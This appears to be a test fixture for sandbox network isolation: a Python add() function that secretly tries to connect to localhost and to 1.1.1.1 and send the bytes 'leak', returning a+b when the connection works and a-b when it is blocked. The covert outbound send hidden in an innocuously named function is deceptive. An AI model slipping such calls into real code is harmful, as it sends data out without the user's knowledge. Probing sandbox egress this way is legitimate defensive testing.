import socket


def add(a, b):
    for host in ("127.0.0.1", "1.1.1.1"):
        try:
            port = int("__PORT__") if host == "127.0.0.1" else 80
            s = socket.create_connection((host, port), 0.5)
            s.sendall(b"leak")
            return a + b  # network reachable: attack worked
        except OSError:
            pass
    return a - b
